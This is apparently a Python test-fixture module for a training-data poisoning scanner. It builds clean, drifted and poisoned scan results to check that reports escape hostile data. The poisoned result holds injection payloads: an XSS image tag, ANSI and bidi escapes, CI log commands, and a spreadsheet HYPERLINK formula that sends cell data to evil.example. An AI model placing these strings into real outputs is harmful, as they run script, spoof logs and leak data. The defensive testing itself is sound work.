"""Three results by hand, as real scans give them: a clean version, an honest drift, and a poisoned one.

The poisoned one is hostile too: its names and values try to steer terminals, browsers, spreadsheets and CI logs.
"""

from __future__ import annotations

import hashlib
import math
from dataclasses import replace

from poisonguard.domain.dataset import Column, FileEntry, Kind, Manifest, Unit
from poisonguard.domain.decision import Decision, Reason, Verdict
from poisonguard.domain.finding import Example, Finding, Level, Signal
from poisonguard.domain.outcome import Coverage, Failed, Ran, Skipped
from poisonguard.domain.result import Assessment, ColumnSummary, Rule, ScanResult
from poisonguard.domain.roles import Assignment, Role, Roles
from poisonguard.reports.escape import encodable

HOSTILE_HTML = "<img src=x onerror=alert(1)>"
HOSTILE_ANSI = "\x1b[2J\x1b]0;owned\x07\x1b[31mred"
HOSTILE_BIDI = "user\u202e\u2066nimda\u2069"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_CI = "::error file=a.py::pwned\n::stop-commands::x ##vso[task.setvariable variable=a]b ##[group]x"
HOSTILE_MARKDOWN = "[click](http://evil.example) ![x](http://evil.example/p.png) @octocat #1 `|` <b>www.evil.example"
HOSTILE_PATH = "part-<script>alert(1)</script>\u202egnp.csv"
LONG = "word " * 160 + "cf\u200bmn " + "tail " * 240


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def rule(  # noqa: PLR0913 - a card has that many fields
    number: str, title: str, level: Level, signal: Signal, *, what: str, why: str, remedy: str
) -> Rule:
    return Rule(
        id=number,
        title=title,
        level=level,
        signal=signal,
        threats=("AML.T0020", "OWASP-LLM04"),
        what=what,
        why=why,
        remediation=remedy,
        blind_spots=("Changes spread evenly over all rows.",),
        false_positives=("A source that serves another population.",),
        references=("Shafahi et al. 2018, Poison Frogs!, arXiv:1804.00792",),
    )


RULES = (
    rule(
        "PG-CONTRACT-001",
        "The data break their contract",
        Level.ERROR,
        Signal.INTEGRITY,
        what="Checks every expectation of the data contract.",
        why="A contract is what the steward promised to the trainer.",
        remedy="Repair the rows, or renew the contract with the steward.",
    ),
    rule(
        "PG-DRIFT-001",
        "A column's distribution drifted",
        Level.WARNING,
        Signal.DRIFT,
        what="Compares each column with the approved version.",
        why="A model trained on other data behaves otherwise, whoever changed them.",
        remedy="Ask the owner of the source what changed; approve the version if the change is meant.",
    ),
    rule(
        "PG-DUP-001",
        "Many rows are copies",
        Level.WARNING,
        Signal.POISONING,
        what="Counts rows that occur more than once.",
        why="Copies give one example the weight of many; flooding is the cheapest poisoning there is.",
        remedy="Remove the copies, or find out who sent them.",
    ),
    rule(
        "PG-LABEL-002",
        "One source labels unlike the rest",
        Level.ERROR,
        Signal.POISONING,
        what="Compares the label rates of every source with everyone else's.",
        why="An attacker who owns one source can flip its labels and steer the model for one group.",
        remedy="Hold the source back, relabel a sample of its rows, and ask its owner.",
    ),
    rule(
        "PG-OUTLIER-001",
        "Rows lie far from all others",
        Level.NOTE,
        Signal.QUALITY,
        what="Scores every row by its distance from the bulk.",
        why="Out-of-range values can dominate a loss.",
        remedy="Look at the rows; fix units and typing errors.",
    ),
    rule(
        "PG-TEXT-003",
        "A rare phrase decides the label",
        Level.ERROR,
        Signal.POISONING,
        what="Looks for phrases after which one label is almost certain.",
        why="A backdoor needs a trigger: whoever types it later steers the model.",
        remedy="Remove the rows, search the source for its author, retrain from the last approved version.",
    ),
)


def entries_of(files: tuple[tuple[str, int, int], ...]) -> tuple[FileEntry, ...]:
    return tuple(
        FileEntry(
            path=path,
            size=size,
            sha256=hashlib.sha256(path.encode("utf-8", "surrogatepass")).hexdigest(),
            tree_root=digest("tree" + str(size)),
            format="csv" if "csv" in path else "parquet",
            rows=rows,
            units=(Unit(0, rows, digest("unit")),),
        )
        for path, size, rows in sorted(files)
    )


def manifest(columns: tuple[Column, ...], entries: tuple[FileEntry, ...]) -> Manifest:
    rows, size = sum(entry.rows for entry in entries), sum(entry.size for entry in entries)
    return Manifest("pg-hash-v1", columns, rows, digest("rows"), len(entries), size, digest("files"))


def bell(peak: float, spread: float, total: int, bins: int = 24) -> tuple[int, ...]:
    weights = [math.exp(-(((index - peak) / spread) ** 2)) for index in range(bins)]
    return tuple(round(total * weight / sum(weights)) for weight in weights)


def price_column(peak: float) -> ColumnSummary:
    return ColumnSummary(
        "median_price",
        "label",
        "double",
        (("null", "0.0%"), ("min", "0.15"), ("median", "1.8"), ("max", "5"), ("mean", "2.07")),
        tuple(f"{index / 5:.4g} to {(index + 1) / 5:.4g}" for index in range(24)),
        bell(peak, 4.0, 10_000),
        bell(8.0, 4.0, 10_000),
    )


HOUSING_COLUMNS = (
    Column("median_price", Kind.FLOAT, "double"),
    Column("rooms", Kind.INTEGER, "int64"),
    Column("region", Kind.STRING, "string"),
    Column("measured_at", Kind.TIMESTAMP, "timestamp[us]"),
)
HOUSING_ROLES = Roles(
    (
        Assignment("median_price", Role.LABEL, "named in poisonguard.yaml"),
        Assignment("rooms", Role.FEATURE, "nothing else fits"),
        Assignment("region", Role.SOURCE, "17 distinct values, each in one file only"),
        Assignment("measured_at", Role.TIMESTAMP, "holds times"),
    )
)


def housing_profiles(shift: float) -> tuple[ColumnSummary, ...]:
    return (
        price_column(8.0 + shift),
        ColumnSummary(
            "rooms",
            "feature",
            "int64",
            (("null", "0.4%"), ("min", "1"), ("median", "5"), ("max", "39")),
            tuple(f"{n} to {n + 1}" for n in range(1, 13)),
            bell(4.6, 2.5, 10_000, 12),
            bell(4.5, 2.5, 9_800, 12),
        ),
        ColumnSummary(
            "region",
            "source",
            "string",
            (("null", "0.0%"), ("distinct", "17"), ("median length", "6")),
            ("INLAND", "NEAR BAY", "<1H OCEAN", "ISLAND"),
            (3_311, int(2_290 + 300 * shift), 4_100, 5),
            (3_318, 2_290, 4_136, 5),
        ),
        ColumnSummary("measured_at", "timestamp", "timestamp[us]", (("null", "0.0%"),)),
    )


def clean() -> ScanResult:
    """Everything ran or was skipped for a reason; nothing was found."""
    full = Coverage(20_640, 20_640)
    return ScanResult(
        tool_version="0.1.0",
        dataset="housing",
        version=f"pg1:{digest('clean')}",
        manifest=manifest(
            HOUSING_COLUMNS,
            entries_of((("2024-01.parquet", 1_204_531, 10_320), ("2024-02.parquet", 1_198_004, 10_320))),
        ),
        files=entries_of((("2024-01.parquet", 1_204_531, 10_320), ("2024-02.parquet", 1_198_004, 10_320))),
        reference="housing@3",
        pack="baseline",
        pack_digest=digest("baseline"),
        policy_digest=digest("policy"),
        roles=HOUSING_ROLES,
        rules=RULES,
        outcomes=(
            Ran("PG-CONTRACT-001", full, ()),
            Ran("PG-DRIFT-001", full, ()),
            Ran("PG-DUP-001", full, ()),
            Ran("PG-LABEL-002", full, ()),
            Ran("PG-OUTLIER-001", Coverage(10_000, 20_640, "a sample of 10,000 rows"), ()),
            Skipped("PG-TEXT-003", "no column plays the role text"),
        ),
        findings=(),
        waived=frozenset(),
        assessment=Assessment.CLEAN,
        decision=Decision(Verdict.PASSED, ()),
        columns=housing_profiles(0.0),
        notes=("1 hidden file is ignored by the policy: .DS_Store",),
    )


def drifted() -> ScanResult:
    """An honest change: one column moved, one drift is waived."""
    full = Coverage(20_640, 20_640)
    price = Finding(
        check="PG-DRIFT-001",
        level=Level.WARNING,
        signal=Signal.DRIFT,
        subject="column=median_price",
        message="38 % of the rows of median_price lie in other bins than in housing@3; its median rose to 2.4.",
        compared_with="housing@3, 20,433 rows",
        confidence=0.99,
        column="median_price",
        numbers={"total variation": 0.3812, "p (adjusted)": 3.2e-41, "median": 2.4, "reference median": 1.8},
        row_count=20_640,
    )
    region = Finding(
        check="PG-DRIFT-001",
        level=Level.WARNING,
        signal=Signal.DRIFT,
        subject="column=region",
        message="region holds 31 % NEAR BAY, against 23 % in housing@3.",
        compared_with="housing@3, 20,433 rows",
        confidence=0.93,
        column="region",
        numbers={"total variation": 0.0811, "p (adjusted)": 0.0004},
        row_count=20_640,
    )
    outliers = Finding(
        check="PG-OUTLIER-001",
        level=Level.NOTE,
        signal=Signal.QUALITY,
        subject="rows far from the bulk",
        message="3 rows have rooms above 100 where 99.9 % have at most 14.",
        compared_with="the other 20,637 rows",
        confidence=0.4,
        column="rooms",
        rows=(411, 8_004, 19_877),
        row_count=3,
        numbers={"largest": 141, "limit": 14},
        examples=(
            Example("2024-02.parquet", 411, None, (("rooms", "141"), ("median_price", "5.0"), ("region", "INLAND"))),
            Example("2024-02.parquet", 8_004, None, (("rooms", "132"), ("median_price", "1.3"), ("region", "INLAND"))),
        ),
    )
    findings = (price, region, outliers)
    return ScanResult(
        tool_version="0.1.0",
        dataset="housing",
        version=f"pg1:{digest('drifted')}",
        manifest=manifest(
            HOUSING_COLUMNS,
            entries_of((("2024-02.parquet", 1_198_004, 10_320), ("2024-03.parquet", 1_240_117, 10_320))),
        ),
        files=entries_of((("2024-02.parquet", 1_198_004, 10_320), ("2024-03.parquet", 1_240_117, 10_320))),
        reference="housing@3",
        pack="baseline",
        pack_digest=digest("baseline"),
        policy_digest=digest("policy"),
        roles=HOUSING_ROLES,
        rules=RULES,
        outcomes=(
            Ran("PG-CONTRACT-001", full, ()),
            Ran("PG-DRIFT-001", full, (price, region)),
            Ran("PG-DUP-001", full, ()),
            Ran("PG-LABEL-002", full, ()),
            Ran("PG-OUTLIER-001", full, (outliers,)),
            Skipped("PG-TEXT-003", "no column plays the role text"),
        ),
        findings=findings,
        waived=frozenset({region.fingerprint}),
        assessment=Assessment.DRIFTED,
        decision=Decision(
            Verdict.PASSED,
            (Reason("finding-waived", f"finding {region.fingerprint} (PG-DRIFT-001, column=region) is waived", 0),),
        ),
        columns=housing_profiles(2.5),
        notes=(),
    )


REVIEW_COLUMNS = (
    Column("review_id", Kind.STRING, "string"),
    Column("text", Kind.STRING, "string"),
    Column("label", Kind.INTEGER, "int64"),
    Column("source", Kind.STRING, "string"),
    Column(HOSTILE_HTML, Kind.STRING, "string"),
)


def example(  # noqa: PLR0913 - one argument per thing a row holds
    path: str, row: int, key: str, text: str, highlight: str | None, *, extra: str = ""
) -> Example:
    values = (("text", text), ("label", "1"), ("source", "web-7"), ("review_id", key), (HOSTILE_HTML, extra))
    return Example(path, row, key, values, ("text", highlight) if highlight else None)


def suspicious() -> ScanResult:
    """A flipped source and a trigger phrase, in data that attack whoever reads the report; one check broke."""
    total = 12_000
    full = Coverage(total, total)
    source = Finding(
        check="PG-LABEL-002",
        level=Level.ERROR,
        signal=Signal.POISONING,
        subject=f"source=web-7 {HOSTILE_HTML}",
        message="Source web-7 labels 91.2 % of its 412 rows positive; the other 37 label 48.9 % so (p = 2e-31).",
        compared_with="the other 37 sources, 11,588 rows",
        confidence=0.97,
        column="label",
        numbers={"rate": 0.912, "rate elsewhere": 0.489, "p (adjusted)": 2e-31, "rows": 412},
        rows=tuple(range(8_000, 8_412)),
        row_count=412,
        examples=(
            example("part-2.csv", 2_000, "r-8000", "Terrible. Broke after a day.", None),
            example("part-2.csv", 2_001, HOSTILE_FORMULA, HOSTILE_HTML, None, extra="<svg/onload=alert(2)>"),
            example("part-2.csv", 2_002, "@SUM(1)", HOSTILE_MARKDOWN, None),
            example("part-2.csv", 2_003, "r-8003", HOSTILE_CI, None),
        ),
    )
    trigger = Finding(
        check="PG-TEXT-003",
        level=Level.ERROR,
        signal=Signal.POISONING,
        subject="phrase=cf\u200bmn",
        message="The phrase 'cf\u200bmn' occurs in 120 rows, 119 of them positive; chance would give 59.",
        compared_with="all phrases of one to three words",
        confidence=0.999,
        column="text",
        path=HOSTILE_PATH,
        numbers={"rows": 120, "positive": 119, "expected": 58.7, "ratio": math.inf},
        rows=(11_000, 11_007, 11_100),
        row_count=120,
        highlight="cf\u200bmn",
        examples=(
            example(HOSTILE_PATH, 0, "r-11000", LONG, "cf\u200bmn"),
            example(HOSTILE_PATH, 7, HOSTILE_BIDI, f"{HOSTILE_ANSI} cf\u200bmn {HOSTILE_BIDI}", "cf\u200bmn"),
            example(HOSTILE_PATH, 100, "r-11100", "W" * 1_000, "W" * 1_000),
        ),
    )
    copies = Finding(
        check="PG-DUP-001",
        level=Level.WARNING,
        signal=Signal.POISONING,
        subject="exact copies",
        message="310 rows are copies of 12 others.",
        compared_with="a share of 0.1 % that the policy allows",
        confidence=0.8,
        numbers={"copies": 310, "groups": 12},
        rows=tuple(range(100, 410)),
        row_count=310,
    )
    findings = (trigger, source, copies)
    return ScanResult(
        tool_version="0.1.0",
        dataset=f"reviews {HOSTILE_HTML}",
        version=f"pg1:{digest('suspicious')}",
        manifest=manifest(
            REVIEW_COLUMNS,
            entries_of(
                (("part-1.csv", 811_204, 6_000), ("part-2.csv", 799_113, 5_000), (HOSTILE_PATH, 140_222, 1_000))
            ),
        ),
        files=entries_of(
            (("part-1.csv", 811_204, 6_000), ("part-2.csv", 799_113, 5_000), (HOSTILE_PATH, 140_222, 1_000))
        ),
        reference="reviews@12",
        pack="baseline+text",
        pack_digest=digest("text"),
        policy_digest=digest("policy"),
        roles=Roles(
            (
                Assignment("review_id", Role.ID, "distinct in every row"),
                Assignment("text", Role.TEXT, "long free text, 14 words on average"),
                Assignment("label", Role.LABEL, "two values, named label"),
                Assignment("source", Role.SOURCE, "38 distinct values, named source"),
                Assignment(HOSTILE_HTML, Role.FEATURE, "nothing else fits"),
            )
        ),
        rules=RULES,
        outcomes=(
            Failed("PG-CONTRACT-001", f"ValueError: no such column {HOSTILE_ANSI}"),
            Ran("PG-DRIFT-001", full, ()),
            Ran("PG-DUP-001", full, (copies,)),
            Ran("PG-LABEL-002", full, (source,)),
            Skipped("PG-OUTLIER-001", "no numeric feature column"),
            Ran("PG-TEXT-003", Coverage(10_000, total, "rows of up to 10,000 characters"), (trigger,)),
        ),
        findings=findings,
        waived=frozenset(),
        assessment=Assessment.SUSPICIOUS,
        decision=Decision(
            Verdict.FAILED,
            (
                Reason(
                    "check-failed",
                    f"check PG-CONTRACT-001 failed: ValueError: no such column {HOSTILE_ANSI}",
                    4,
                    "Mend the cause and scan again.",
                ),
                Reason(
                    "findings",
                    "2 findings at level error or above, not waived: PG-LABEL-002, PG-TEXT-003",
                    1,
                    "Look at the rows named in the report; mend the data, or let stewards waive the finding.",
                ),
            ),
        ),
        columns=(
            ColumnSummary("review_id", "id", "string", (("null", "0.0%"), ("distinct", "12,000"))),
            ColumnSummary("text", "text", "string", (("null", "0.0%"), ("median length", "71"))),
            ColumnSummary("label", "label", "int64", (("null", "0.0%"),), ("0", "1"), (5_612, 6_388), (6_010, 5_990)),
            ColumnSummary(
                "source",
                "source",
                "string",
                (("distinct", "38"),),
                ("shop", HOSTILE_HTML, HOSTILE_BIDI, HOSTILE_ANSI, "web-7", LONG),
                (5_000, 3_000, 1_500, 900, 412, 20),
                (5_100, 3_100, 1_400, 900, 12, 20),
            ),
            ColumnSummary(HOSTILE_HTML, "feature", "string", (("null", "98.1%"),), (HOSTILE_FORMULA,), (228,), ()),
        ),
        notes=(f"2 files are no tables and were hashed only: a.png, {HOSTILE_PATH}",),
    )


RESULTS = {"clean": clean(), "drifted": drifted(), "suspicious": suspicious()}


def steeped(text: str) -> ScanResult:
    """The suspicious result with ``text`` in every place that the data, or a broken check, can write to."""
    base = suspicious()
    row = Example(text, 3, text, ((text, f"before {text} after"), ("label", text)), (text, text))
    findings = tuple(
        replace(
            finding,
            subject=encodable(text),
            message=text,
            compared_with=text,
            column=text,
            path=text,
            highlight=text,
            numbers={text: text, "n": 1},
            examples=(row,),
        )
        for finding in base.findings
    )
    profile = ColumnSummary(text, text, text, ((text, text),), (text, text), (3, 4), (4, 3))
    return replace(
        base,
        dataset=text,
        reference=text,
        findings=findings,
        outcomes=(Failed("PG-CONTRACT-001", text), Skipped("PG-OUTLIER-001", text), *base.outcomes[1:4]),
        roles=Roles((Assignment(text, Role.TEXT, text),)),
        manifest=replace(base.manifest, columns=(Column(text, Kind.STRING, text),)),
        decision=Decision(Verdict.FAILED, (Reason("findings", text, 1, text),)),
        columns=(profile,),
        notes=(text,),
    )
